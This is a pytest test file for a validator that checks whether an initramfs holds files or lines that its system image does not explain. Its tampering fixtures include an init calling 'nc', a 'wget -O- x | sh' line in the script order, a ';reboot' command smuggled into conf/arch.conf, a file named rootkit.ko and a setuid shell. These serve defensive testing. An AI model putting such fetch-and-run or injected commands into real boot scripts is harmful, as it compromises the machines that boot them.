"""Each way in which an initial ramdisk can hold what the image does not, and the ramdisks that are not compared."""

from __future__ import annotations

import gzip
import json
import subprocess
import sys
from hashlib import sha256
from pathlib import Path

import pytest

from onhost import initial_ramdisk as program
from tests.validator.file_account.ramdisks import FILE, FOLDER, LINK, cpio
from validator.file_account import Entry, InvalidRamdisk, Inventory, read_ramdisks
from validator.file_account.initial_ramdisk import not_compared, unexplained
from validator.file_account.inventory import Ramdisk

IMAGE = {
    "/usr/share/initramfs-tools/init": b"#!/bin/sh\n# init\n",
    "/usr/share/initramfs-tools/scripts/init-top/udev": b"#!/bin/sh\n# udev\n",
    "/etc/initramfs-tools/scripts/local": b"#!/bin/sh\n# local\n",
    "/usr/lib/klibc/bin/sh": b"ELF sh",
    "/usr/lib/modules/6.1/kernel/nvme.ko": b"ELF nvme",
}
HONEST: dict[str, tuple[int, bytes]] = {
    "conf": (FOLDER | 0o755, b""),
    "conf/arch.conf": (FILE | 0o644, b"DPKG_ARCH=amd64\n"),
    "conf/modules": (FILE | 0o644, b"# disks\nnvme \next4 data=ordered\n"),
    "etc/ld.so.cache": (FILE | 0o644, b"cache"),
    "etc/fstab": (FILE | 0o644, b""),
    "etc/mtab": (LINK | 0o777, b"/proc/mounts"),
    "init": (FILE | 0o755, IMAGE["/usr/share/initramfs-tools/init"]),
    "lib": (LINK | 0o777, b"usr/lib"),
    "bin": (LINK | 0o777, b"usr/bin"),
    "scripts/init-top/ORDER": (
        FILE | 0o644, b'/scripts/init-top/udev "$@"\n[ -e /conf/param.conf ] && . /conf/param.conf\n',
    ),
    "scripts/init-top/udev": (FILE | 0o755, IMAGE["/usr/share/initramfs-tools/scripts/init-top/udev"]),
    "scripts/local": (FILE | 0o644, IMAGE["/etc/initramfs-tools/scripts/local"]),
    "usr/bin": (FOLDER | 0o755, b""),
    "usr/bin/sh": (FILE | 0o755, IMAGE["/usr/lib/klibc/bin/sh"]),
    "usr/bin/ash": (LINK | 0o777, b"/bin/sh"),
    "usr/lib": (FOLDER | 0o755, b""),
    "usr/lib/modules/6.1/kernel/nvme.ko": (FILE | 0o644, IMAGE["/usr/lib/modules/6.1/kernel/nvme.ko"]),
    "usr/lib/modules/6.1/modules.dep": (FILE | 0o644, b"kernel/nvme.ko:\n"),
}  # fmt: skip


def inventory() -> Inventory:
    entries = (
        Entry(path, "f", 0o644, "root", "root", sha256=sha256(data).hexdigest(), size=len(data))
        for path, data in IMAGE.items()
    )
    return Inventory({entry.path: entry for entry in entries})


def listed(tmp_path: Path, data: bytes) -> Ramdisk:
    (tmp_path / "boot").mkdir()
    (tmp_path / "boot/initrd.img-6.1").write_bytes(data)
    command = [sys.executable, "-IS", program.__file__, "--root", str(tmp_path)]
    (ramdisk,) = read_ramdisks(subprocess.run(command, capture_output=True, text=True, check=True).stdout).values()
    return ramdisk


def test_a_ramdisk_of_update_initramfs_is_explained(tmp_path: Path) -> None:
    early = cpio({"kernel/x86/microcode/AuthenticAMD.bin": (FILE | 0o644, b"microcode")})
    ramdisk = listed(tmp_path, early + gzip.compress(cpio(HONEST)))
    assert len(ramdisk.files) == len(HONEST) + 1
    assert (unexplained(ramdisk, inventory()), not_compared(ramdisk)) == ([], "")


NO_SUCH = "no file of the image has this content"
TRACES: dict[str, tuple[dict[str, tuple[int, bytes]], str]] = {
    "a module of another build": (
        {"usr/lib/modules/6.1/updates/rootkit.ko": (FILE | 0o644, b"ELF rootkit")},
        f"usr/lib/modules/6.1/updates/rootkit.ko: {NO_SUCH}",
    ),
    "a program that was replaced": ({"usr/bin/sh": (FILE | 0o755, b"ELF other")}, f"usr/bin/sh: {NO_SUCH}"),
    "an init that was changed": ({"init": (FILE | 0o755, b"#!/bin/sh\nnc x 1\n")}, f"init: {NO_SUCH}"),
    "another script of the image as init": (
        {"init": (FILE | 0o755, IMAGE["/etc/initramfs-tools/scripts/local"])},
        "init: not as /usr/share/initramfs-tools/init",
    ),
    "a further script": (
        {"scripts/init-bottom/late": (FILE | 0o755, IMAGE["/usr/lib/klibc/bin/sh"])},
        "scripts/init-bottom/late: not as /usr/share/initramfs-tools/scripts/init-bottom/late",
    ),
    "a line in the order of scripts": (
        {"scripts/init-top/ORDER": (FILE | 0o644, b'/scripts/init-top/udev "$@"\nwget -O- x | sh\n')},
        "scripts/init-top/ORDER: line 'wget -O- x | sh', which update-initramfs does not write",
    ),
    "a command in conf/arch.conf": (
        {"conf/arch.conf": (FILE | 0o644, b"DPKG_ARCH=amd64;reboot\n")},
        "conf/arch.conf: line 'DPKG_ARCH=amd64;reboot', which update-initramfs does not write",
    ),
    "a link out of the ramdisk": (
        {"usr/bin/ash": (LINK | 0o777, b"/root/sh")},
        "usr/bin/ash: link to /root/sh, which the ramdisk does not have",
    ),
    "a setuid program": ({"usr/bin/sh": (FILE | 0o4755, IMAGE["/usr/lib/klibc/bin/sh"])}, "usr/bin/sh: mode 4755"),
    "a device": ({"sda": (0o060000 | 0o600, b"")}, "sda: neither file, directory nor link"),
}


@pytest.mark.parametrize("trace", TRACES)
def test_what_is_not_the_image_s_is_named(trace: str, tmp_path: Path) -> None:
    files, problem = TRACES[trace]
    ramdisk = listed(tmp_path, cpio(HONEST | files))
    assert unexplained(ramdisk, inventory()) == [problem]


def test_an_archive_after_the_ramdisk_is_named(tmp_path: Path) -> None:
    """The kernel unpacks every archive of a ramdisk, one over the other."""
    data = gzip.compress(cpio(HONEST)) + cpio({"init": (FILE | 0o755, b"another")})
    assert unexplained(listed(tmp_path, data), inventory()) == [f"init: {NO_SUCH}"]


def test_one_that_ends_early_is_named(tmp_path: Path) -> None:
    ramdisk = listed(tmp_path, cpio(HONEST)[:-130])
    assert unexplained(ramdisk, inventory())[-1] == "cut off"


def test_what_cannot_be_compared_says_why() -> None:
    dracut = Ramdisk("/boot/initramfs-6.1.img", [["usr/lib/dracut/dracut-053", "f", 0o644, "0", 1]])
    unread = Ramdisk("/boot/initrd.img-6.1", unknown="the system has no program lz4, which decompresses it")
    assert [not_compared(dracut), not_compared(unread)] == ["made by dracut", unread.unknown]
    assert unexplained(dracut, inventory()) == unexplained(unread, inventory()) == []


@pytest.mark.parametrize("text", ["{", "[]", json.dumps({"ramdisk": "/boot/x"})])
def test_what_is_no_list_of_ramdisks_is_refused(text: str) -> None:
    with pytest.raises(InvalidRamdisk, match="could not be read"):
        read_ramdisks(text)
